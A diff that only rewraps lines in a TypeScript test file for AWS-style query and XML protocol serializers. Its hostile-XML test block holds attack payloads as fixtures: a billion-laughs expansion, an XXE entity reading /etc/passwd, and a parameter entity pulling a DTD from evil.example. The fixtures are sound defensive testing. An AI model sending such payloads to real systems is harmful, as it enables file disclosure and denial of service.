@@ -23,7 +23,10 @@ class ThrottledError extends TestException {
     super({ ...init, name: "ThrottledError" });
   }
 }
-const facts: ProtocolFacts & { readonly apiVersion: string } = { apiVersion: "2020-01-08", baseException: TestException };
+const facts: ProtocolFacts & { readonly apiVersion: string } = {
+  apiVersion: "2020-01-08",
+  baseException: TestException,
+};
 const $metadata: ResponseMetadata = { attempts: 1, totalRetryDelay: 0 };
 const response = (body: string, statusCode = 200, headers: Record<string, string> = {}): HttpResponseParts => ({
   statusCode,
@@ -34,7 +37,11 @@ const response = (body: string, statusCode = 200, headers: Record<string, string
 const Tags: ListSchema = { type: "list", member: "string" };
 const Named: ListSchema = { type: "list", member: "string", memberName: "item" };
 const Attributes: MapSchema = { type: "map", key: "string", value: "integer", keyName: "Name", valueName: "Value" };
-const Inner: StructureSchema = { type: "structure", name: "Inner", members: { Id: { target: "string" }, Tags: { target: Tags } } };
+const Inner: StructureSchema = {
+  type: "structure",
+  name: "Inner",
+  members: { Id: { target: "string" }, Tags: { target: Tags } },
+};
 const Input: StructureSchema = {
   type: "structure",
   name: "Input",
@@ -115,7 +122,9 @@ describe("the form serializer", () => {
 
 describe("the XML reader and writer", () => {
   it("keeps text exactly: no coercion, whitespace kept, entities and CDATA decoded, prefixes stripped from local names", () => {
-    const root = parseXml(`<?xml version="1.0"?><p:R xmlns:p="u" a="1 &amp; &#x32;"><n>007</n><s>  </s><t>true</t><c><![CDATA[<&amp;>]]></c><e>&lt;&#233;&gt;</e></p:R>`)!;
+    const root = parseXml(
+      `<?xml version="1.0"?><p:R xmlns:p="u" a="1 &amp; &#x32;"><n>007</n><s>  </s><t>true</t><c><![CDATA[<&amp;>]]></c><e>&lt;&#233;&gt;</e></p:R>`,
+    )!;
     expect(root.local).toBe("R");
     expect(root.attributes["a"]).toBe("1 & 2");
     expect(root.children.map((c) => c.text)).toEqual(["007", "  ", "true", "<&amp;>", "<é>"]);
@@ -171,9 +180,26 @@ const Out: StructureSchema = {
   name: "Out",
   members: { Count: { target: "integer" }, Items: { target: Tags }, requestId: { target: "string" } },
 };
-const Throttled: StructureSchema = { type: "structure", name: "ThrottledError", members: { Message: { target: "string" }, Retry: { target: "integer" } } };
-const throttled: ErrorSchema = { code: "Throttling", schema: Throttled, ctor: ThrottledError, fault: "client", httpStatusCode: 400 };
-const op: OperationSchema = { name: "List", method: "POST", requestUri: "/", input: Input, output: Out, errors: [throttled] };
+const Throttled: StructureSchema = {
+  type: "structure",
+  name: "ThrottledError",
+  members: { Message: { target: "string" }, Retry: { target: "integer" } },
+};
+const throttled: ErrorSchema = {
+  code: "Throttling",
+  schema: Throttled,
+  ctor: ThrottledError,
+  fault: "client",
+  httpStatusCode: 400,
+};
+const op: OperationSchema = {
+  name: "List",
+  method: "POST",
+  requestUri: "/",
+  input: Input,
+  output: Out,
+  errors: [throttled],
+};
 
 describe("awsQuery", () => {
   it("posts a form naming Action and Version", () => {
@@ -184,10 +210,14 @@ describe("awsQuery", () => {
   });
 
   it("reads the output inside <OpResult>, or the named resultWrapper", () => {
-    const body = "<ListResponse><ListResult><Count>2</Count><Items><member>a</member></Items></ListResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></ListResponse>";
+    const body =
+      "<ListResponse><ListResult><Count>2</Count><Items><member>a</member></Items></ListResult><ResponseMetadata><RequestId>r</RequestId></ResponseMetadata></ListResponse>";
     expect(awsQuery.deserializeOutput(facts, op, response(body), $metadata)).toEqual({ Count: 2, Items: ["a"] });
     const wrapped = { ...op, resultWrapper: "Other" };
-    expect(awsQuery.deserializeOutput(facts, wrapped, response(body.replace(/ListResult/g, "Other")), $metadata)).toEqual({ Count: 2, Items: ["a"] });
+    expect(awsQuery.deserializeOutput(facts, wrapped, response(body.replace(/ListResult/g, "Other")), $metadata)).toEqual({
+      Count: 2,
+      Items: ["a"],
+    });
   });
 
   it("names the member a wrong value sits in", () => {
@@ -197,7 +227,8 @@ describe("awsQuery", () => {
   });
 
   it("maps error codes (custom awsQueryError codes included) to modelled errors", () => {
-    const body = "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>slow down</Message><Retry>3</Retry></Error><RequestId>req-1</RequestId></ErrorResponse>";
+    const body =
+      "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>slow down</Message><Retry>3</Retry></Error><RequestId>req-1</RequestId></ErrorResponse>";
     const error = awsQuery.deserializeError(facts, op, response(body, 400), $metadata);
     expect(error).toBeInstanceOf(ThrottledError);
     expect(error.message).toBe("slow down");
@@ -217,9 +248,15 @@ describe("awsQuery", () => {
 
 describe("ec2Query", () => {
   it("reads the output straight inside <OpResponse> and errors from <Response><Errors>", () => {
-    const out = ec2Query.deserializeOutput(facts, op, response("<ListResponse xmlns='http://ec2'><requestId>r</requestId><Count>1</Count></ListResponse>"), $metadata);
+    const out = ec2Query.deserializeOutput(
+      facts,
+      op,
+      response("<ListResponse xmlns='http://ec2'><requestId>r</requestId><Count>1</Count></ListResponse>"),
+      $metadata,
+    );
     expect(out).toEqual({ requestId: "r", Count: 1 });
-    const body = "<Response><Errors><Error><Code>Throttling</Code><Message>m</Message></Error></Errors><RequestID>req-2</RequestID></Response>";
+    const body =
+      "<Response><Errors><Error><Code>Throttling</Code><Message>m</Message></Error></Errors><RequestID>req-2</RequestID></Response>";
     const error = ec2Query.deserializeError(facts, op, response(body, 400), $metadata);
     expect(error).toBeInstanceOf(ThrottledError);
     expect(error.$metadata.requestId).toBe("req-2");
@@ -227,7 +264,12 @@ describe("ec2Query", () => {
 });
 
 describe("restXml", () => {
-  const Payload: StructureSchema = { type: "structure", name: "Config", xmlNamespace: { uri: "http://s3" }, members: { Mode: { target: "string" } } };
+  const Payload: StructureSchema = {
+    type: "structure",
+    name: "Config",
+    xmlNamespace: { uri: "http://s3" },
+    members: { Mode: { target: "string" } },
+  };
   const PutInput: StructureSchema = {
     type: "structure",
     name: "PutInput",
@@ -241,9 +283,20 @@ describe("restXml", () => {
   const BodyOut: StructureSchema = {
     type: "structure",
     name: "BodyOut",
-    members: { Since: { target: "timestamp", location: "header", locationName: "x-since" }, At: { target: "timestamp" }, Blob: { target: "blob" } },
+    members: {
+      Since: { target: "timestamp", location: "header", locationName: "x-since" },
+      At: { target: "timestamp" },
+      Blob: { target: "blob" },
+    },
   };
-  const put: OperationSchema = { name: "Put", method: "PUT", requestUri: "/{Bucket}", input: PutInput, output: BodyOut, errors: [throttled] };
+  const put: OperationSchema = {
+    name: "Put",
+    method: "PUT",
+    requestUri: "/{Bucket}",
+    input: PutInput,
+    output: BodyOut,
+    errors: [throttled],
+  };
 
   it("binds labels and headers and writes the payload structure at its root element with its namespace", () => {
     const req = restXml.serializeRequest(facts, put, { Bucket: "b", Since: new Date(0), Config: { Mode: "x" } });
@@ -255,15 +308,21 @@ describe("restXml", () => {
   });
 
   it("reads headers as HTTP dates and the body's timestamps as ISO 8601", () => {
-    const res = response("<BodyOut><At>2024-01-02T03:04:05Z</At><Blob>aGk=</Blob></BodyOut>", 200, { "x-since": "Thu, 01 Jan 1970 00:00:01 GMT" });
+    const res = response("<BodyOut><At>2024-01-02T03:04:05Z</At><Blob>aGk=</Blob></BodyOut>", 200, {
+      "x-since": "Thu, 01 Jan 1970 00:00:01 GMT",
+    });
     const out = restXml.deserializeOutput(facts, put, res, $metadata);
     expect(out).toEqual({ Since: new Date(1000), At: new Date(Date.UTC(2024, 0, 2, 3, 4, 5)), Blob: utf8Encode("hi") });
   });
 
   it("reads errors in the <ErrorResponse> form and S3's bare <Error> form", () => {
-    const wrapped = "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>a</Message></Error><RequestId>r1</RequestId></ErrorResponse>";
+    const wrapped =
+      "<ErrorResponse><Error><Type>Sender</Type><Code>Throttling</Code><Message>a</Message></Error><RequestId>r1</RequestId></ErrorResponse>";
     const bare = "<Error><Code>Throttling</Code><Message>b</Message><RequestId>r2</RequestId><HostId>h</HostId></Error>";
-    expect(restXml.deserializeError(facts, put, response(wrapped, 503), $metadata)).toMatchObject({ message: "a", $metadata: { requestId: "r1" } });
+    expect(restXml.deserializeError(facts, put, response(wrapped, 503), $metadata)).toMatchObject({
+      message: "a",
+      $metadata: { requestId: "r1" },
+    });
     const error = restXml.deserializeError(facts, put, response(bare, 503), $metadata);
     expect(error).toBeInstanceOf(ThrottledError);
     expect(error).toMatchObject({ message: "b", $metadata: { requestId: "r2" } });
@@ -279,7 +338,8 @@ describe("hostile XML responses", () => {
   };
   const documents: Record<string, string> = {
     "a billion laughs": lol(9),
-    "an external entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ListResponse><ListResult><Items><member>&xxe;</member></Items></ListResult></ListResponse>',
+    "an external entity":
+      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><ListResponse><ListResult><Items><member>&xxe;</member></Items></ListResult></ListResponse>',
     "a lower-case doctype": "<!doctype ListResponse><ListResponse/>",
     "a parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><ListResponse/>',
     "an undeclared entity": "<ListResponse><ListResult><Items><member>&xxe;</member></Items></ListResult></ListResponse>",
@@ -291,7 +351,12 @@ describe("hostile XML responses", () => {
         const started = performance.now();
         let caught: unknown;
         try {
-          protocol.deserializeOutput(facts, protocol === restXml ? { ...op, output: { ...Out, name: "ListResponse" } } : op, response(body), $metadata);
+          protocol.deserializeOutput(
+            facts,
+            protocol === restXml ? { ...op, output: { ...Out, name: "ListResponse" } } : op,
+            response(body),
+            $metadata,
+          );
         } catch (error) {
           caught = error;
         }
